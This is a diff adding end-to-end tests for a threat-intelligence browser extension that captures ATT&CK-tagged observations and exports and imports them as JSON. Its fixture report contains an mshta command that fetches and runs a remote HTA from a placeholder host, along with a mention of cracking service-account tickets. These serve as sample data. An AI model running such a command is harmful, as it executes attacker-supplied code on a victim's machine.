@@ -1,0 +1,124 @@
+import { afterAll, beforeAll, expect, inject, it } from 'vitest';
+import { jsonFileSchema, type Library } from '@/utils/exchange/json-format';
+import { extensionDir } from '../support/builds';
+import { selectWithMouse } from '../support/selection';
+import { type PageServer, startServer } from '../support/server';
+import { type Download, openBrowser, type Session } from '../support/session';
+import { chooseLevel, fill, openCard, pickTechnique, readLibrary, save } from './steps/capture';
+import {
+  chooseImport,
+  confirmImport,
+  exportButton,
+  observationOn,
+  openDesk,
+  openLibrary,
+  reportOn,
+  seed,
+} from './steps/library';
+
+const BODY = `<p>The lure was a page that asked visitors to prove that they are human.</p>
+<pre>mshta  https://update.example/a.hta
+  /quiet</pre>
+<p>Ünïcode, «quotes», 日本語 and a \u{1F9F2} are part of the report as well.</p>`;
+
+let server: PageServer;
+let session: Session;
+/** What the first browser exported. */
+let everything: Download;
+let library: Library;
+
+const browser = inject('browserName');
+const open = () => openBrowser({ browser, extensionDir: extensionDir(browser) });
+
+/** Reports and observations in the order of their ids: neither a file nor the store has that order by itself. */
+function sorted({ reports, observations }: Library): Library {
+  const byId = (a: { id: string }, b: { id: string }) => a.id.localeCompare(b.id);
+  return { reports: [...reports].sort(byId), observations: [...observations].sort(byId) };
+}
+
+beforeAll(async () => {
+  server = await startServer({
+    pages: {
+      '/report.html': `<!doctype html><meta charset="utf-8"><title>One of two reports</title>${BODY}`,
+    },
+  });
+  session = await open();
+});
+afterAll(async () => {
+  await session?.close();
+  await server?.close();
+});
+
+it('exports what was captured: this page, and everything', async () => {
+  const other = reportOn('https://research.example/another', { title: 'Another report' });
+  const text = 'It asked for tickets of every service account and cracked them elsewhere.';
+  const desk = await openDesk(session);
+  await seed(desk, {
+    reports: [other],
+    observations: [observationOn({ report: other, text, exact: 'tickets of every service account' })],
+  });
+
+  const url = server.url('/report.html');
+  const page = await session.newPage(url);
+  await selectWithMouse(page, { text: 'asked visitors to prove that they are human' });
+  const first = await openCard(session, page);
+  await pickTechnique(page, 'T1204.004');
+  await fill(page, first, 'Actor', 'Hollow Plover');
+  await fill(page, first, 'Note', 'kept <as> "typed" & whole');
+  await save(session, page, first);
+  await selectWithMouse(page, { text: 'mshta https://update.example/a.hta /quiet' });
+  const second = await openCard(session, page);
+  await pickTechnique(page, 'T1218.005');
+  await chooseLevel(page, second, 'procedure');
+  await save(session, page, second);
+  library = sorted(await readLibrary(session));
+  expect(library.observations).toHaveLength(3);
+
+  const popup = await session.clickToolbarButton(page);
+  const ofPage = await exportButton(popup, 'Export this page');
+  const pageFile = await session.download(() => ofPage.click());
+  const ofAll = await exportButton(popup, 'Export everything');
+  everything = await session.download(() => ofAll.click());
+  await session.closePopup(popup);
+
+  const inPage = jsonFileSchema.parse(JSON.parse(pageFile.text));
+  expect(pageFile.name).toMatch(/^ttps-one-of-two-reports-\d{4}-\d{2}-\d{2}\.json$/);
+  expect(inPage.reports.map((report) => report.url)).toEqual([url]);
+  expect(inPage.observations.map(({ level, technique }) => [level, technique?.id])).toEqual([
+    ['technique', 'T1204.004'],
+    ['procedure', 'T1218.005'],
+  ]);
+  expect(inPage.observations[1]?.procedure).toBe('mshta  https://update.example/a.hta\n  /quiet');
+
+  const inAll = jsonFileSchema.parse(JSON.parse(everything.text));
+  expect(everything.name).toMatch(/^ttps-\d{4}-\d{2}-\d{2}\.json$/);
+  expect(inAll).toMatchObject({
+    format: 'ttp-clipper',
+    version: 1,
+    generator: { name: 'TTP Clipper' },
+    attack: [
+      { domain: 'enterprise-attack', version: expect.stringMatching(/^\d+\.\d+$/) },
+      { domain: 'ics-attack', version: expect.stringMatching(/^\d+\.\d+$/) },
+      { domain: 'mobile-attack', version: expect.stringMatching(/^\d+\.\d+$/) },
+    ],
+  });
+  expect(sorted(inAll)).toEqual(library);
+});
+
+it('brings the same library back into a fresh profile, and changes nothing the second time', async () => {
+  const fresh = await open();
+  try {
+    expect(sorted(await readLibrary(fresh))).toEqual({ reports: [], observations: [] });
+    const page = await openLibrary(fresh);
+    expect(await chooseImport(page, everything.path)).toMatch(/holds 2 reports and 3 observations/);
+    expect(sorted(await readLibrary(fresh)).observations).toEqual([]);
+    expect(await confirmImport(page)).toMatch(/3 observations added, 0 changed, 0 the same/);
+    expect(sorted(await readLibrary(fresh))).toEqual(library);
+
+    await chooseImport(page, everything.path);
+    expect(await confirmImport(page)).toMatch(/0 observations added, 0 changed, 3 the same/);
+    expect(sorted(await readLibrary(fresh))).toEqual(library);
+  } finally {
+    await fresh.close();
+  }
+});
